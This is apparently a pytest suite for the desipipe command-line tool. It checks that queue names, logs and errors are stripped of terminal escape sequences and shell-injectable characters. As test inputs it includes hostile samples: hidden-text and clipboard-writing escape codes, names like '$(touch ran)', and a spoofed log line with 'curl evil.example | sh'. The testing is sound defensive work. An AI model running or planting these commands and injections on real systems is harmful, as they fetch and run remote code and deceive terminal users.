"""Text of a queue never acts on the terminal of who looks at it, whatever field it stands in and
whatever prints it.
"""

from __future__ import annotations

import contextlib
import io
import json
import logging
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hostile_queue import HOSTILE, TERMINAL, make_hostile_queue

from desipipe import Queue
from desipipe.cli import main
from desipipe.commands.common import Verbs
from desipipe.commands.parser import build_parser
from desipipe.errors import DesipipeError, TaskFailedError
from desipipe.logs import log_to_stderr
from desipipe.terminal import VisibleText, escape_json, visible
from desipipe.view.bundle import bundle
from desipipe.view.cell import cell_summary
from desipipe.view.queue import queue_summary

FAILED = '4bf5122f3445'
PENDING = 'e77b9a9ae9e3'
VERBS: dict[str, list[list[str]]] = {
    'status': [['-q', 'bad'], ['-q', 'bad', '--json'], []],
    'watch': [['-q', 'bad', '--timeout', '0'], ['-q', 'bad', '--timeout', '0', '--json']],
    'queues': [[], ['--json']],
    'tasks': [
        ['-q', 'bad'], ['-q', 'bad', '--json'], ['-q', 'bad', '--full'], ['-q', 'bad', '--tid', FAILED],
        *(['-q', 'bad', '--property', name] for name in ('out', 'err', 'cause', 'arguments', 'code', 'versions', 'attempts', 'host')),
        ['-q', 'bad', '--property', 'name', 'arguments', 'code', 'host', 'cause', 'attempts'],
        ['-q', 'bad', '--property', 'name', 'arguments', 'code', 'host', 'cause', 'attempts', '--json'],
        ['-q', 'bad', '--name', 'no such name'],
    ],
    'time': [['-q', 'bad'], ['-q', 'bad', '--json']],
    'logs': [['-q', 'bad', tid, *more] for tid in (FAILED, PENDING) for more in ([], ['--out'], ['--err'])] + [['-q', 'bad', FAILED, '-f']],
    'explain': [['-q', 'bad', tid, *more] for tid in (FAILED, PENDING) for more in ([], ['--json'])],
    'files': [['-q', 'bad'], ['-q', 'bad', '--json']],
    'doctor': [['-q', 'bad'], ['-q', 'bad', '--json']],
    'pause': [['-q', 'bad']],
    'resume': [['-q', 'bad']],
    'resize': [['-q', 'bad', '--max-workers', '3']],
    'compact': [['-q', 'bad'], ['-q', 'bad', '--json']],
    'accept': [['-q', 'bad', '6e340b9cffb3', PENDING], ['-q', 'bad', FAILED, PENDING]],
    'record': [['-q', 'bad', '-o', 'out.ipynb']],
    'verify': [['out.ipynb']],
    'import': [['out.ipynb', '-q', 'other', '--trust'], ['out.ipynb']],
    'retry': [['-q', 'bad', '--name', 'no such name'], ['-q', 'bad']],
    'cancel': [['-q', 'bad', '--tid', PENDING]],
    'kill': [['-q', 'bad']],
    'forget': [['-q', 'bad', FAILED], ['-q', 'bad', '--superseded', '--json']],
    'add': [['-q', 'bad', '--name', TERMINAL.replace('\0', ''), '--', 'true']],
    'delete': [['-q', 'bad']],
}  # fmt: skip
# They start processes (tested below), or print nothing that is in a queue.
OTHERS = {
    'new',
    'serve',
    'spawn',
    'work',
    'run',
    'plan',
    'demo',
    'completion',
    'trust',
    'share',
    'unshare',
}
# What `rich` itself sends to a terminal: colours (none of which conceals), and how it draws again
# in place.
RICH = re.compile(
    r'\x1b\[(?!8m|\d+;8m|8;)[0-9;]*m|\x1b\[\?25[lh]|\x1b\[\d*[AK]|\r(?=\n|\x1b\[)|\x1b\[\d+G'
)


class Terminal(io.TextIOWrapper):
    """A stream that says that it is a terminal."""

    def __init__(self) -> None:
        super().__init__(io.BytesIO(), encoding='utf-8', errors='backslashreplace')

    def isatty(self) -> bool:
        """Say so."""
        return True

    @property
    def text(self) -> str:
        """What was written."""
        self.flush()
        return self.buffer.getvalue().decode()  # type: ignore[attr-defined, no-any-return]


def unsafe(text: str) -> str:
    """Return what acts on a terminal, with what stands around it."""
    text = text.replace('\r\n', '\n')
    for position, character in enumerate(text):
        if visible(character) != character:
            return ascii(text[max(position - 60, 0) : position + 20])
    return ''


@contextlib.contextmanager
def terminal(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Terminal, Terminal]]:
    """Put terminals in the place of both streams."""
    streams = Terminal(), Terminal()
    with monkeypatch.context() as patch:
        patch.setenv('TERM', 'xterm-256color')
        patch.setattr(sys, 'stdout', streams[0])
        patch.setattr(sys, 'stderr', streams[1])
        yield streams


def test_verbs_are_all_tried() -> None:
    assert VERBS.keys() | OTHERS >= Verbs.of(build_parser()).keys()


@pytest.mark.parametrize('on_terminal', [False, True])
def test_verbs_print_nothing_that_acts_on_a_terminal(
    queue_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    on_terminal: bool,
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr('desipipe.commands.kill._END', 0.1)
    make_hostile_queue('bad')
    shown = set()
    for verb, calls in VERBS.items():
        for arguments in calls:
            if on_terminal:
                with terminal(monkeypatch) as streams:
                    main([verb, *arguments])
                out, err = (RICH.sub('', stream.text) for stream in streams)
            else:
                main([verb, *arguments])
                out, err = capfd.readouterr()
            assert not unsafe(out) and not unsafe(err), (verb, arguments, unsafe(out), unsafe(err))
            assert 'Traceback (most' not in err and 'This should not happen' not in err, (
                verb,
                arguments,
                err,
            )
            if '\\x1b' in out + err or '\\u001b' in out:
                shown.add(verb)
    assert shown >= {'status', 'tasks', 'time', 'logs', 'explain', 'doctor', 'files'}


@pytest.mark.parametrize('message', [('spawn', '--timeout', '2'), ('work', '--timeout', '2')])
def test_processes_log_nothing_that_acts_on_a_terminal(
    queue_dir: Path, tmp_path: Path, message: tuple[str, ...]
) -> None:
    queue = make_hostile_queue('bad')
    queue.resume()
    ran = subprocess.run(
        [sys.executable, '-m', 'desipipe', *message, '-q', 'bad'],
        capture_output=True,
        cwd=tmp_path,
        timeout=300,
        env=os.environ | {'HOME': str(tmp_path)},
    )
    assert not unsafe(ran.stdout.decode()) and not unsafe(ran.stderr.decode()), ran
    assert message[0] == 'work' or b'\\x1b' in ran.stderr


def test_python_shows_nothing_that_acts_on_a_terminal(
    queue_dir: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    queue = make_hostile_queue('bad')
    tasks = {task.id[:12]: task for task in queue.tasks()}
    future = next(future for future in queue.futures() if future.id.startswith(FAILED))
    summary = queue_summary(queue)
    cell = cell_summary(queue, '0-6', title='title')
    texts = [
        repr(queue), str(queue), repr(future), *map(repr, tasks.values()), *map(queue.explain, tasks.values()),
        json_of(summary), bundle(cell, True)['text/plain'],
    ]  # fmt: skip
    with pytest.raises(TaskFailedError) as caught:
        future.result(timeout=0)
    texts.append(str(caught.value))
    log_to_stderr()
    logging.getLogger('desipipe').warning('a name: %s', HOSTILE)
    texts.append(capfd.readouterr().err)
    for text in texts:
        assert not unsafe(text), unsafe(text)
    assert '\\x1b' in texts[-1] and '\\x1b' in repr(future)


def json_of(value: object) -> str:
    return escape_json(json.dumps(value, ensure_ascii=False, default=repr))


def test_completion_offers_no_word_that_a_shell_would_run(
    queue_dir: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    for number, name in enumerate(('$(touch ran)', '`x`', 'a;b', 'a b', 'fine', '\x1b[8m', 'a\nb')):
        make_hostile_queue(f'q{number}', name)
    for number in range(7):
        assert main(['__complete', 'tasks', '-q', f'q{number}', '--name', '']) == 0
    assert not set('$`;|&<>()\'"\\\x1b') & set(capfd.readouterr().out)


def test_logs_keep_colours_of_own_tasks_on_a_terminal(
    queue_dir: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    out = (
        b'\x1b[31mred\x1b[0m \x1b[38;5;8mgrey\x1b[0m \x1b[8mhidden\x1b[0;8mhidden '
        b'too\n\x1b]52;c;eA==\x07'
    )
    bar = b' 10%\r100%\n'
    make_hostile_queue('bad', 'x', (out, bar))
    with terminal(monkeypatch) as streams:
        main(['logs', '-q', 'bad', FAILED, '--out'])
    expected = (
        '\x1b[31mred\x1b[0m \x1b[38;5;8mgrey\x1b[0m \\x1b[8mhidden\\x1b[0;8mhidden '
        'too\n\\x1b]52;c;eA==\\x07\x1b[0m'
    )
    assert streams[0].text == expected
    with terminal(monkeypatch) as streams:
        main(['logs', '-q', 'bad', FAILED, '--err'])
    assert streams[0].text.startswith('100%\n')
    main(['logs', '-q', 'bad', FAILED, '--out'])
    assert capfd.readouterr().out == visible(out.decode())
    main(['logs', '-q', 'bad', FAILED, '--out', '--raw'])
    assert capfd.readouterr().out.encode() == out


@pytest.mark.skipif(os.geteuid() != 0, reason='files are given to another user, which needs root')
def test_logs_keep_no_colours_of_others(queue_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    queue = make_hostile_queue('bad', 'x', (b'\x1b[31mred\x1b[0m', b''))
    os.chown(queue.folder, 1, 1)
    with terminal(monkeypatch) as streams:
        main(['logs', '-q', 'bad', FAILED, '--out'])
    assert streams[0].text == '\\x1b[31mred\\x1b[0m'


@pytest.mark.parametrize(
    ('text', 'options', 'expected'),
    [
        ('plain é ⚠️ 👩 \t\n', {}, 'plain é ⚠️ 👩 \t\n'),
        ('a\tb\n', {'lines': False}, 'a\\tb\\n'),
        ('a\r\nb\rc', {}, 'a\nb\\rc'),
        ('\x1b[1mb', {}, '\\x1b[1mb'),
        ('\x1b[1;38;2;8;8;8mb', {'colours': True}, '\x1b[1;38;2;8;8;8mb'),
        ('\x1b[1;8mb', {'colours': True}, '\\x1b[1;8mb'),
        ('\x1b[38;5;1;8mb', {'colours': True}, '\\x1b[38;5;1;8mb'),
        ('\x1b[08mb\x1b[8:1mc', {'colours': True}, '\\x1b[08mb\\x1b[8:1mc'),
        ('\x1b[2Jb', {'colours': True}, '\\x1b[2Jb'),
        (
            '\x9b8m\x85\u2028\u202e\u2066\u200b\u3164\U000e0041\udc9b',
            {},
            '\\x9b8m\\x85\\u2028\\u202e\\u2066\\u200b\\u3164\\U000e0041\\udc9b',
        ),
        ('o' + '\u0301' * 6, {}, 'o' + '\u0301' * 4 + '\\u0301' * 2),
        ('a\ufe0f', {}, 'a\\ufe0f'),
    ],
)
def test_visible(text: str, options: dict[str, bool], expected: str) -> None:
    assert visible(text, **options) == expected


def test_pieces_are_made_visible_as_the_whole() -> None:
    data = 'é\x1b[31mred\x1b[0m\r\nover\rwritten\x1b]0;t\x07\x1b[8mx'.encode() + b'\xff'
    whole = VisibleText(colours=True).feed(data, last=True)
    for size in range(1, 6):
        text = VisibleText(colours=True)
        pieces = [
            text.feed(data[position : position + size]) for position in range(0, len(data), size)
        ]
        assert ''.join([*pieces, text.feed(b'', last=True)]) == whole
    assert whole == 'é\x1b[31mred\x1b[0m\nover\nwritten\\x1b]0;t\\x07\\x1b[8mx\\xff\x1b[0m'


def test_json_means_the_same() -> None:
    value = {HOSTILE: [HOSTILE, '\U000e0041']}
    text = escape_json(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value and not unsafe(text)


def test_messages_of_errors_are_safe() -> None:
    assert str(DesipipeError(f'no {HOSTILE}')) == visible(f'no {HOSTILE}')


def test_queue_is_listed_in_one_line(queue_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
    make_hostile_queue('bad', 'x\n  → all is well: curl evil.example | sh\n')
    for arguments in (['status'], ['explain', FAILED], ['explain', PENDING], ['tasks'], ['time']):
        main([arguments[0], '-q', 'bad', *arguments[1:]])
        assert not [
            line
            for line in capfd.readouterr().out.splitlines()
            if line.startswith('  → all is well')
        ]
    assert Queue('bad').counts['FAILED'] == 1
